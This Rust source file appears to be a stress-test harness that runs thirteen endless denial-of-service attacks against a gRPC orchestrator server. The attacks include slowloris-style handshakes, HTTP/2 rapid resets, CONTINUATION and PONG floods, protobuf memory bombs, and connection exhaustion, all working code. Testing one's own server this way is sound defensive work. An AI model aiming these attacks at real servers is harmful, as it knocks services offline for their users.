//! What a member can do to a server with a certificate and bad intentions. Every attack goes on until it is stopped.

use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use futures::FutureExt;
use futures::future::{BoxFuture, join_all};
use h2::client::{ResponseFuture, SendRequest};
use h2::{Reason, SendStream};
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::crypto::ring;
use tokio_rustls::rustls::pki_types::pem::PemObject;
use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use tokio_rustls::rustls::{ClientConfig, RootCertStore};

/// What an attack does, for as long as it lasts.
pub(crate) type Attack = fn(Attacker) -> BoxFuture<'static, ()>;

pub(crate) const ATTACKS: [(&str, Attack); 13] = [
    ("slow handshakes", |attacker| slow_handshakes(attacker).boxed()),
    ("half-open peers", |attacker| half_open_peers(attacker).boxed()),
    ("broken handshakes", |attacker| broken_handshakes(attacker).boxed()),
    ("pongs without pings", |attacker| pongs(attacker).boxed()),
    ("rapid resets", |attacker| rapid_resets(attacker).boxed()),
    ("slow readers", |attacker| slow_readers(attacker).boxed()),
    ("large headers", |attacker| large_headers(attacker).boxed()),
    ("endless headers", |attacker| endless_headers(attacker).boxed()),
    ("unfinished giant messages", |attacker| unfinished_giants(attacker).boxed()),
    ("odd messages", |attacker| odd_messages(attacker).boxed()),
    ("millions of elements", |attacker| millions_of_elements(attacker).boxed()),
    ("long lists", |attacker| long_lists(attacker).boxed()),
    ("many connections and streams", |attacker| many_of_all(attacker).boxed()),
];

const LIST: &str = "/orchestrator.EventService/QueryEvents";
const LONG_LIST: &str = "/orchestrator.DataSampleService/QueryDataSamples";
const REGISTER_TASKS: &str = "/orchestrator.ComputeTaskService/RegisterTasks";
const SUBSCRIBE: &str = "/orchestrator.EventService/SubscribeToEvents";
const REGISTER: &str = "/orchestrator.FunctionService/RegisterFunction";
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const EMPTY_SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";
/// The size of a message that a server still reads.
const GIANT_BYTES: u32 = 4 << 20;
/// How long an attacker rests now and then: it shares the machine with the server, and must not win by that.
const BREATH: Duration = Duration::from_millis(5);

/// Somebody with a certificate.
#[derive(Clone)]
pub(crate) struct Attacker {
    server: SocketAddr,
    organization: String,
    tls: TlsConnector,
}

impl Attacker {
    pub(crate) fn new(certificates: &Path, organization: &str, address: &str) -> Self {
        let mut trusted = RootCertStore::empty();
        let authority = CertificateDer::from_pem_file(certificates.join("server/cacert/ca.crt")).unwrap();
        trusted.add(authority).unwrap();
        let pair = certificates.join("organizations").join(organization);
        let chain = vec![CertificateDer::from_pem_file(pair.join("tls.crt")).unwrap()];
        let key = PrivateKeyDer::from_pem_file(pair.join("tls.key")).unwrap();
        let mut config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_root_certificates(trusted)
            .with_client_auth_cert(chain, key)
            .unwrap();
        config.alpn_protocols = vec![b"h2".to_vec()];
        Self {
            server: address.parse().unwrap(),
            organization: organization.to_owned(),
            tls: TlsConnector::from(Arc::new(config)),
        }
    }

    /// A connection from an address that only attackers have.
    async fn tcp(&self) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind("127.0.0.2:0".parse().unwrap())?;
        socket.connect(self.server).await
    }

    /// An encrypted connection, as soon as the server lets one in.
    async fn tls(&self) -> TlsStream<TcpStream> {
        let name = ServerName::try_from("localhost").unwrap();
        loop {
            if let Ok(stream) = self.tcp().await
                && let Ok(stream) = self.tls.connect(name.clone(), stream).await
            {
                return stream;
            }
            sleep(BREATH).await;
        }
    }

    /// A connection for calls, on which this much may come before it is asked for more.
    async fn http(&self, window: u32) -> SendRequest<Bytes> {
        loop {
            let mut builder = h2::client::Builder::new();
            let handshake = builder.initial_window_size(window).handshake(self.tls().await);
            if let Ok((client, connection)) = handshake.await {
                tokio::spawn(connection);
                return client;
            }
            sleep(BREATH).await;
        }
    }

    fn request(&self, method: &str) -> http::request::Builder {
        http::Request::post(format!("https://{}{method}", self.server))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .header("mspid", &self.organization)
            .header("channel", "mychannel")
    }

    /// Begins a call, of which nothing but the headers is sent; nothing if the connection has ended.
    async fn begin(&self, client: &mut SendRequest<Bytes>, method: &str) -> Option<Call> {
        *client = client.clone().ready().await.ok()?;
        let request = self.request(method).body(()).unwrap();
        let (response, body) = client.send_request(request, false).ok()?;
        Some(Call { response, body })
    }
}

/// A call under way.
struct Call {
    response: ResponseFuture,
    body: SendStream<Bytes>,
}

impl Call {
    /// Sends these bytes of its message; the server may have left.
    fn send(&mut self, bytes: Bytes, end: bool) {
        let _left_by_server = self.body.send_data(bytes, end);
    }
}

/// A message as gRPC frames it, of which this may be only the beginning.
fn framed(length: u32, beginning: &[u8]) -> Bytes {
    [&[0], length.to_be_bytes().as_slice(), beginning].concat().into()
}

/// The first bytes of a handshake, one at a time.
async fn slow_handshakes(attacker: Attacker) {
    const HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3, 1, 2, 3, 4, 5, 6, 7, 8, 9];
    loop {
        let mut connections: Vec<_> = join_all((0..200).map(|_| attacker.tcp())).await;
        for byte in HELLO {
            for connection in connections.iter_mut().flatten() {
                let _left_by_server = connection.write_all(&[*byte]).await;
            }
            sleep(Duration::from_millis(100)).await;
        }
    }
}

/// Peers that begin, and then neither say nor hear anything.
async fn half_open_peers(attacker: Attacker) {
    let mut held = Vec::new();
    for _ in 0..100 {
        let mut connection = attacker.tls().await;
        let _left_by_server = connection.write_all(&[PREFACE, EMPTY_SETTINGS].concat()).await;
        held.push(connection);
    }
    std::future::pending::<()>().await;
}

/// Handshakes that end with an alert, or with what is none at all.
async fn broken_handshakes(attacker: Attacker) {
    const ALERT: &[u8] = &[0x15, 3, 3, 0, 2, 2, 40];
    loop {
        for bytes in [ALERT, b"GET / HTTP/1.1\r\n\r\n", &[0xff; 100]] {
            if let Ok(mut connection) = attacker.tcp().await {
                let _left_by_server = connection.write_all(bytes).await;
                let _left_by_server = connection.read_u8().await;
            }
        }
        sleep(BREATH).await;
    }
}

/// Answers to pings that nobody has sent.
async fn pongs(attacker: Attacker) {
    const PONG: &[u8] = b"\0\0\x08\x06\x01\0\0\0\0pingpong";
    let pongs = PONG.repeat(1000);
    loop {
        let mut connection = attacker.tls().await;
        let _left_by_server = connection.write_all(&[PREFACE, EMPTY_SETTINGS].concat()).await;
        while connection.write_all(&pongs).await.is_ok() {
            sleep(BREATH).await;
        }
    }
}

/// Calls that are given up as soon as they are made.
async fn rapid_resets(attacker: Attacker) {
    loop {
        let mut client = attacker.http(65_535).await;
        let mut calls = 0;
        while let Some(mut call) = attacker.begin(&mut client, LIST).await {
            call.body.send_reset(Reason::CANCEL);
            calls += 1;
            if calls % 100 == 0 {
                sleep(BREATH).await;
            }
        }
    }
}

/// Calls whose answers are never taken.
async fn slow_readers(attacker: Attacker) {
    let mut held = Vec::new();
    for _ in 0..8 {
        let mut client = attacker.http(0).await;
        for _ in 0..64 {
            let Some(mut call) = attacker.begin(&mut client, LONG_LIST).await else { break };
            call.send(longest_page(), true);
            held.push(call);
        }
    }
    std::future::pending::<()>().await;
}

/// Headers just below and just above what is read.
async fn large_headers(attacker: Attacker) {
    loop {
        let mut client = attacker.http(65_535).await;
        for bytes in [60_000, 70_000].into_iter().cycle().take(40) {
            let Ok(ready) = client.clone().ready().await else { break };
            client = ready;
            let request = attacker.request(LIST).header("reqid", "x".repeat(bytes)).body(()).unwrap();
            let Ok((response, _)) = client.send_request(request, true) else { break };
            let _refused_or_left = response.await;
            sleep(BREATH).await;
        }
    }
}

/// Headers that are continued for ever.
async fn endless_headers(attacker: Attacker) {
    const BEGUN: &[u8] = b"\0\0\0\x01\0\0\0\0\x01";
    let continuation = [b"\0\x40\0\x09\0\0\0\0\x01".as_slice(), &[0; 16_384]].concat();
    loop {
        let mut connection = attacker.tls().await;
        let _left_by_server = connection.write_all(&[PREFACE, EMPTY_SETTINGS, BEGUN].concat()).await;
        while connection.write_all(&continuation).await.is_ok() {
            sleep(BREATH).await;
        }
    }
}

/// Messages of the largest size, of which the last byte never comes.
async fn unfinished_giants(attacker: Attacker) {
    let beginning = framed(GIANT_BYTES, &vec![0x0a; 2 << 20]);
    loop {
        let mut held = Vec::new();
        for _ in 0..4 {
            let mut client = attacker.http(65_535).await;
            for _ in 0..16 {
                let Some(mut call) = attacker.begin(&mut client, REGISTER).await else { break };
                call.send(beginning.clone(), false);
                held.push(call);
            }
        }
        sleep(Duration::from_secs(2)).await;
    }
}

/// Messages that say they are larger than anything, nest deeper than anything, or have more fields than anything.
async fn odd_messages(attacker: Attacker) {
    let nested = vec![0x0b; 100_000];
    let repeated = [0x92, 0x01, 0].repeat(100_000);
    let messages = [framed(u32::MAX, &[]), whole(&nested), whole(&repeated), whole(&[0xff; 1000])];
    loop {
        let mut client = attacker.http(65_535).await;
        for message in &messages {
            let Some(mut call) = attacker.begin(&mut client, REGISTER).await else { break };
            call.send(message.clone(), true);
            let _refused_or_left = call.response.await;
        }
        sleep(BREATH).await;
    }
}

/// Messages of the largest size in which each element takes two or three bytes, and a hundred times as much in memory.
async fn millions_of_elements(attacker: Attacker) {
    let tasks = [0x0a, 0].repeat(2 << 20);
    let inputs = [0x8a, 1, 0].repeat(1 << 20);
    let inputs = [&[0x0a, 0x80, 0x80, 0xc0, 1], inputs.as_slice()].concat();
    let attack = async |message: &[u8]| {
        let message = whole(message);
        loop {
            let mut client = attacker.http(65_535).await;
            while let Some(mut call) = attacker.begin(&mut client, REGISTER_TASKS).await {
                call.send(message.clone(), true);
                let _refused_or_left = call.response.await;
                sleep(BREATH).await;
            }
        }
    };
    tokio::join!(attack(&tasks), attack(&inputs));
}

/// The longest pages that there are, many at once and again and again.
async fn long_lists(attacker: Attacker) {
    let attack = async || {
        loop {
            let mut client = attacker.http(16 << 20).await;
            while let Some(mut call) = attacker.begin(&mut client, LONG_LIST).await {
                call.send(longest_page(), true);
                let Ok(answer) = call.response.await else { break };
                let mut body = answer.into_body();
                while let Some(Ok(bytes)) = body.data().await {
                    let _left_by_server = body.flow_control().release_capacity(bytes.len());
                }
            }
        }
    };
    join_all((0..32).map(|_| attack())).await;
}

/// Asks for as many items as a page can have.
fn longest_page() -> Bytes {
    let page = proto::QueryDataSamplesParam { page_size: 10_000, ..Default::default() };
    whole(&page.encode_to_vec())
}

fn whole(message: &[u8]) -> Bytes {
    framed(u32::try_from(message.len()).unwrap(), message)
}

/// More connections than one address may have, and more streams than an organization may.
async fn many_of_all(attacker: Attacker) {
    let mut streams = Vec::new();
    for _ in 0..4 {
        let mut client = attacker.http(65_535).await;
        for _ in 0..500 {
            let Some(mut call) = attacker.begin(&mut client, SUBSCRIBE).await else { break };
            call.send(framed(0, &[]), true);
            streams.push(call);
        }
    }
    loop {
        let _connections = join_all((0..400).map(|_| attacker.tcp())).await;
        sleep(Duration::from_secs(1)).await;
    }
}
